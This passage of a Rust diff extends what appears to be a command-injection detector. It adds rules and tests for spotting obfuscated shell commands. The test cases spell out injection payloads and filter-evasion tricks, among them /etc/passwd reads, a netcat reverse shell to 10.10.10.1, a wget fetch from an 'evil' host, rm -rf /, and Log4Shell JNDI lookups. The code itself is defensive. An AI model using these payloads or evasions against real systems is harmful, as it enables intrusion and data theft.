+                    .len();
+            // A name, not a positional parameter or a price (`$5`).
+            if name == 0 || after.starts_with(|c: char| c.is_ascii_digit()) {
+                return None;
+            }
+            after.get(name..)?
+        };
+        count += 1;
+    }
+    (rest.is_empty() && count > 0).then_some(count)
+}
+
+/// `gcc7.4`, `python3.11`: a command name with a version glued on, without it.
+fn without_version(name: &str) -> &str {
+    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    if base.len() < name.len()
+        && base.len() >= 2
+        && name
+            .get(base.len()..)
+            .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()))
+    {
+        base
+    } else {
+        name
+    }
 }
 
 /// `word` without the quotes and backslashes a shell removes (`c'a't` is `cat`); borrowed when
@@ -451,10 +1203,25 @@ fn starts_with_command_and_option(text: &str) -> bool {
     if first == "alias" && names_command(trimmed) {
         return true;
     }
+    // `${SHELL} -c "…"`, `$a -nlvp 555`: a program named by a variable, run with an option.
+    if only_expansions(first).is_some()
+        && trimmed
+            .get(first.len()..)
+            .is_some_and(|r| r.starts_with([' ', '\t']) && is_option(r.trim_start()))
+    {
+        return true;
+    }
     let Some((word, rest)) = trimmed.split_once([' ', '\t']) else {
         return false;
     };
+    // `"ll" /var/www/`, `uname$u -a`: the word as the shell runs it.
+    let word = shell_word(word);
+    let word = word.as_ref();
     let rest = rest.trim_start();
+    // `cd /;cd etc;…`: a directory change that a command follows.
+    if word == "cd" && changes_directory(rest) {
+        return true;
+    }
     let option = rest.starts_with('-')
         && rest
             .chars()
@@ -535,6 +1302,10 @@ fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
     if has_path_glob(text) {
         return true;
     }
+    // Precheck: a wildcard path holds a `?` (most values have none).
+    if (!prechecks || text.contains('?')) && has_wildcard_path(text) {
+        return true;
+    }
     // Precheck: each literal below starts with `$` (most values have none; six substring
     // searches saved).
     if (!prechecks || text.contains('$'))
@@ -543,43 +1314,156 @@ fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
             || text.contains("$ifs")
             || text.contains("${ifs")
             || text.contains("$'\\x")
-            || text.contains("${jndi:"))
+            || text.contains("${jndi:")
+            // `${:-j}`, `${::-x}`: an expansion without a name, only a default (Log4Shell
+            // lookups spelled so a filter looking for `jndi` misses them; a shell refuses it).
+            || text.contains("${:"))
     {
         return true;
     }
-    let brace = text.match_indices('{').any(|(i, _)| {
-        let inner = text
-            .get(i + 1..)
-            .and_then(|r| r.split('}').next())
-            .unwrap_or_default();
-        inner.contains(',') && names_command(&inner.replacen(',', " ", 1))
-    });
-    if brace {
+    if brace_expands_to_command(text) {
         return true;
     }
-    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami.
+    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami, n$u\c$u,
+    // uname${x}, ping``, pi<()ng.
     text.split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
         .any(|word| {
-            let obfuscated =
-                word.contains(['\'', '"', '\\']) || word.contains("$@") || word.contains("$9");
+            let obfuscated = word.contains(['\'', '"', '\\', '$', '`']) || word.contains("()");
             // (Most words are not: they are not copied.)
             if !obfuscated {
                 return false;
             }
-            // (Each step copies only if it has something to remove: most words have no `$`.)
-            let mut cleaned = Cow::Borrowed(word);
-            for splitter in ["$@", "$9"] {
-                if cleaned.contains(splitter) {
-                    cleaned = Cow::Owned(cleaned.replace(splitter, ""));
-                }
-            }
-            let cleaned = without_quotes(&cleaned).into_owned();
+            let cleaned = shell_word(word);
             let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
-            obfuscated
-                && cleaned != word
+            cleaned != word
                 && name.len() > 1
                 && (COMMAND_SET.contains(name) || WORD_COMMAND_SET.contains(name))
         })
+}
+
+/// How far after a `{` its `}` is looked for.
+const BRACE_REACH: usize = 256;
+
+/// How much of a command word is read.
+const WORD_REACH: usize = 64;
+
+/// A brace expansion that makes a command line: `{cat,/etc/passwd}`, `{,cd,/etc,}`,
+/// `{n$u\c$u,-nlvp,777}` (the words between commas, empty ones dropped), or that spells a
+/// command inside a word: `c{a,oun}t` is `cat count`.
+fn brace_expands_to_command(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    let mut opens = text.match_indices('{').map(|(i, _)| i).peekable();
+    // The next `}` at or after the `{` at hand (`Some(None)`: none to the end), found by one
+    // forward search per `}`, not one per `{`.
+    let mut close: Option<Option<usize>> = None;
+    while let Some(i) = opens.next() {
+        if close.is_none_or(|c| c.is_some_and(|c| c < i)) {
+            close = Some(
+                bytes
+                    .get(i..)
+                    .and_then(|r| r.iter().position(|&c| c == b'}'))
+                    .map(|p| i + p),
+            );
+        }
+        let Some(Some(end)) = close else {
+            return false;
+        };
+        // Only the innermost braces, and short ones (a brace expansion is), are read: the
+        // pieces read do not overlap, and a value of many `{` stays linear.
+        if end - i > BRACE_REACH || opens.peek().is_some_and(|&next| next < end) {
+            continue;
+        }
+        let inner = text.get(i + 1..end).unwrap_or_default();
+        if expands_to_command(text, i, inner) {
+            return true;
+        }
+    }
+    false
+}
+
+/// [`brace_expands_to_command`] for the braces at `i` holding `inner`.
+fn expands_to_command(text: &str, i: usize, inner: &str) -> bool {
+    {
+        if !inner.contains(',') {
+            return false;
+        }
+        let words: Vec<&str> = inner.split(',').filter(|w| !w.is_empty()).collect();
+        if names_command(&words.join(" ")) {
+            return true;
+        }
+        // The word the braces are glued into: its letters right before and after them (a
+        // command name is short; no more than 32 bytes either side are read).
+        let is_word = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
+        let bytes = text.as_bytes();
+        let prefix_len = bytes
+            .get(..i)
+            .unwrap_or_default()
+            .iter()
+            .rev()
+            .take(32)
+            .take_while(|b| is_word(b))
+            .count();
+        let prefix = text.get(i - prefix_len..i).unwrap_or_default();
+        let after_at = i + inner.len() + 2;
+        let suffix_len = bytes
+            .get(after_at..)
+            .unwrap_or_default()
+            .iter()
+            .take(32)
+            .take_while(|b| is_word(b))
+            .count();
+        let suffix = text
+            .get(after_at..after_at + suffix_len)
+            .unwrap_or_default();
+        (!prefix.is_empty() || !suffix.is_empty())
+            && inner.split(',').any(|alt| {
+                let word = format!("{prefix}{alt}{suffix}");
+                COMMAND_SET.contains(&word) || WORD_COMMAND_SET.contains(&word)
+            })
+    }
+}
+
+/// An absolute path spelled with `?` wildcards the shell expands (`/???/c?t /???/p??s??`,
+/// `/e??/p*sswd`): two or more of its segments hold a wildcard, one a `?` (a build glob,
+/// `/**/*.js`, has none), and it holds nothing but
+/// letters, digits, `._-` and wildcards (a URL's query, `/search?q=1`, has `=`; an ordinary
+/// path has no `?` inside its segments).
+fn has_wildcard_path(text: &str) -> bool {
+    text.match_indices('/').any(|(i, _)| {
+        let starts_word = text
+            .get(..i)
+            .and_then(|b| b.chars().last())
+            .is_none_or(|c| {
+                c.is_ascii_whitespace()
+                    || matches!(c, ';' | '|' | '&' | '=' | '\'' | '"' | '`' | '(')
+            });
+        if !starts_word {
+            return false;
+        }
+        // (A path is short: at most 128 bytes of it are read.)
+        let rest = text.get(i..).unwrap_or_default();
+        let end = rest
+            .bytes()
+            .take(128)
+            .position(|b| {
+                !(b.is_ascii_alphanumeric() || matches!(b, b'/' | b'?' | b'*' | b'.' | b'_' | b'-'))
+            })
+            .unwrap_or(rest.len().min(128));
+        let path = rest.get(..end).unwrap_or_default();
+        let ends_word = rest
+            .get(end..)
+            .and_then(|r| r.chars().next())
+            .is_none_or(|c| {
+                c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | '`' | ')')
+            });
+        ends_word
+            && path.contains('?')
+            && path
+                .split('/')
+                .filter(|segment| segment.contains(['?', '*']))
+                .count()
+                >= 2
+    })
 }
 
 /// A bracket glob inside an absolute path (`/etc/[p]asswd`, `/usr/[a-z]in/bash`,
@@ -760,6 +1644,9 @@ mod tests {
             "a; c'a't /etc/passwd",
             "a;w\\hoami",
             "foo||wget http://evil/x",
+            "x; lsblk",
+            "x && sqlmap -u http://t/?id=1",
+            "a|journalctl -xe",
         ] {
             assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
         }
@@ -866,6 +1753,225 @@ mod tests {
         ] {
             assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
         }
+    }
+
+    #[test]
+    fn evasions_undone_in_a_command_word() {
+        for (v, id) in [
+            // One-character and braced expansions, empty substitutions, escapes.
+            ("x;c$*at /et$*c/pas$*swd", "rce-001"),
+            ("x;c$-at /etc/hosts", "rce-001"),
+            ("/???/c?t /???/p??s??", "rce-003"),
+            ("x;/e??/p*sswd", "rce-003"),
+            ("uname$u -a", "rce-003"),
+            ("{n$u\\c$u,-nlvp,777}", "rce-003"),
+            ("ping`` 127.0.0.1", "rce-003"),
+            ("ping$() 127.0.0.1", "rce-003"),
+            ("pi<()ng 127.0.0.1", "rce-003"),
+            ("c{a,oun}t /etc/passwd", "rce-003"),
+            ("{,cd,/etc,}", "rce-003"),
+            ("${:1337:-x$}{jndi:ldap://x/y}", "rce-003"),
+            // Variables at a command position.
+            ("x;$c1$c2$c3 /etc/passwd", "rce-001"),
+            ("a=nc&&$a -nlvp 555", "rce-001"),
+            ("${SHELL} -c \"echo hi\"", "rce-001"),
+            ("|$u wget test", "rce-001"),
+            ("ip=;$a cat test.txt", "rce-001"),
+            ("garb=adduse[r];$garb pizza", "rce-001"),
+            // Versions, sourcing, option-only commands, directory changes.
+            ("echo | gcc7.4", "rce-001"),
+            (";gcc10.1<<<void main(){}", "rce-001"),
+            ("x | ${x}gcc7.4", "rce-001"),
+            ("ifconfig;. rm -rf /", "rce-001"),
+            (";date --file secrets.txt", "rce-001"),
+            ("x | sort -u", "rce-001"),
+            ("cd /;cd etc;column passwd", "rce-001"),
+            ("ll /var/www/", "rce-001"),
+            ("\"ll\" /var/www/", "rce-001"),
+            ("alias %2Bm a=b", "rce-001"),
+            // SQLite's shell, binaries by path, netcat, WMI and the registry.
+            (";\\n.databases", "rce-001"),
+            ("1;.\\\"shell whoami\n", "rce-001"),
+            ("bin/visudo", "rce-001"),
+            ("/usr/local/bin/chef-client", "rce-001"),
+            ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
+            (";iwmi -class Win32_process -name Create", "rce-005"),
+            ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
+        ] {
+            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
+        }
+        for v in [
+            "costs $5 -ish, or $10",
+            "price; $5 off today",
+            "US$5",
+            "Vinyl & CD /DVD combo",
+            "CD 1; CD 2",
+            "CD / DVD",
+            "vinyl & CD ~ 10 dollars",
+            "lunch; date with Anna",
+            "free shipping; top-rated; sort by price",
+            "we'll see",
+            "{a,b} and c{x}d",
+            "{name}, {title}",
+            "recycle bin/cat litter",
+            "python3.11 is out",
+            "the nc -- network",
+            "end of story. tables are set",
+            "hello;.NET developers",
+            "x=5; $x is five",
+            "`a` and `b`",
+            "f() and g()",
+            "/search?q=1&p=2",
+            "see /faq? or /help?",
+            "what?/why? and how?",
+        ] {
+            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+        }
+    }
+
+    fn level2(v: &str) -> Vec<&'static str> {
+        let decoded = decode_fully(v.as_bytes(), true, true);
+        let with: Vec<_> = detect_level2(&decoded, true, true)
+            .into_iter()
+            .map(|r| r.id)
+            .collect();
+        let without: Vec<_> = detect_level2(&decoded, true, false)
+            .into_iter()
+            .map(|r| r.id)
+            .collect();
+        assert_eq!(with, without, "{v}: the prechecks change nothing");
+        with
+    }
+
+    #[test]
+    fn level2_command_lines_and_expansions() {
+        for (v, id) in [
+            ("whoami;0'0'\"", "rce-007"),
+            ("visudo", "rce-007"),
+            ("chef-shell", "rce-007"),
+            ("ansible-doc plugin ping\n", "rce-007"),
+            ("cscli alerts list\n", "rce-007"),
+            ("pip3 install something\n", "rce-007"),
+            ("\"nmap\" -sV host", "rce-007"),
+            ("${cmd}", "rce-008"),
+            ("${x#{}}", "rce-008"),
+            ("x ${PATH:-/bin}", "rce-008"),
+            ("~%2B5", "rce-008"),
+            ("~%2B", "rce-008"),
+            ("~-1", "rce-008"),
+            ("cd ~-/x", "rce-008"),
+            ("!-1!-2", "rce-008"),
+            ("/bin/ab", "rce-008"),
+            ("x=/usr/local/sbin/thing -x", "rce-008"),
+            ("{a,b}", "rce-008"),
+            ("echo {1..9}", "rce-008"),
+            ("x{,y}", "rce-008"),
+        ] {
+            assert!(level2(v).contains(&id), "{v}: {:?}", level2(v));
+        }
+        for v in [
+            "python tutorial",
+            "curl your hair",
+            "gzip",
+            "split the bill",
+            "id",
+            "uname",
+            "hello world",
+            "about ~0.5 or ~5 km",
+            "wow!! -1 point",
+            "see the recycle/bin/ folder",
+            "/trash-bin/x",
+            "costs $5{a}",
+            "a ~ b",
+            "x-1!-a",
+            "lid~%2B",
+            "{\"a\": 1, \"b\": 2}",
+            "{name}, {title}",
+            "{ a, b }",
+            "{,}",
+            "{1.5}",
+            "/[a-z]{1,5}/",
+            "\\d{2,}",
+        ] {
+            assert!(level2(v).is_empty(), "{v}: {:?}", level2(v));
+        }
+        // Not on a URL path: its first segment is not a command line.
+        assert!(detect_level2(b"/whoami", false, true).is_empty());
+    }
+
+    #[test]
+    fn repeated_pieces_stay_linear() {
+        // Each piece a rule looks around from, many times over: quadratic work would take
+        // minutes here, linear takes milliseconds.
+        for piece in [
+            "`",
+            "``",
+            ";$a",
+            "${",
+            "{,",
+            "bin/",
+            "xbin/",
+            "nc -x ",
+            ";.",
+            "a=b;",
+            ";alias -a ",
+            "~+",
+            "!-1",
+            ";cd ",
+            "$u",
+            "/?",
+            " /a?",
+            "{a,",
+            "a{b,c}",
+        ] {
+            let value = piece.repeat(40_000 / piece.len());
+            let start = std::time::Instant::now();
+            let _ = detect_with(&Lowered::new(value.as_bytes()), true);
+            let _ = detect_level2(value.as_bytes(), true, true);
+            assert!(
+                start.elapsed() < std::time::Duration::from_secs(5),
+                "{piece:?}: {:?}",
+                start.elapsed()
+            );
+        }
+    }
+
+    #[test]
+    fn plain_shortcut_keeps_the_new_rules() {
+        use crate::detect::{inspect_with, Enabled, ValueKind};
+        for (v, kind) in [
+            ("gwmi win32_service", ValueKind::Text),
+            ("iwmi x", ValueKind::Text),
+            ("iwr x", ValueKind::Text),
+            ("/usr/bin/visudo", ValueKind::Path),
+            ("/x/regedit /s", ValueKind::Path),
+        ] {
+            let ids = |shortcuts| -> Vec<&str> {
+                inspect_with(v.as_bytes(), kind, "q", Enabled::STRICT, shortcuts)
+                    .into_iter()
+                    .map(|f| f.rule.id)
+                    .collect()
+            };
+            assert_eq!(ids(true), ids(false), "{v}");
+        }
+    }
+
+    #[test]
+    fn level2_rules_only_at_level_2() {
+        use crate::detect::{inspect, Enabled, ValueKind};
+        for (v, id) in [("visudo", "rce-007"), ("x=${cmd}", "rce-008")] {
+            let at = |enabled| -> Vec<&str> {
+                inspect(v.as_bytes(), ValueKind::Text, "query:q", enabled)
+                    .into_iter()
+                    .map(|f| f.rule.id)
+                    .collect()
+            };
+            assert!(at(Enabled::ALL).is_empty(), "{v}");
+            assert_eq!(at(Enabled::STRICT), [id], "{v}");
+        }
+        // A level-1 rule names the finding where both match.
+        let found = inspect(b"x;whoami", ValueKind::Text, "q", Enabled::STRICT);
+        assert_eq!(found.first().map(|f| f.rule.id), Some("rce-001"));
     }
 
     #[test]
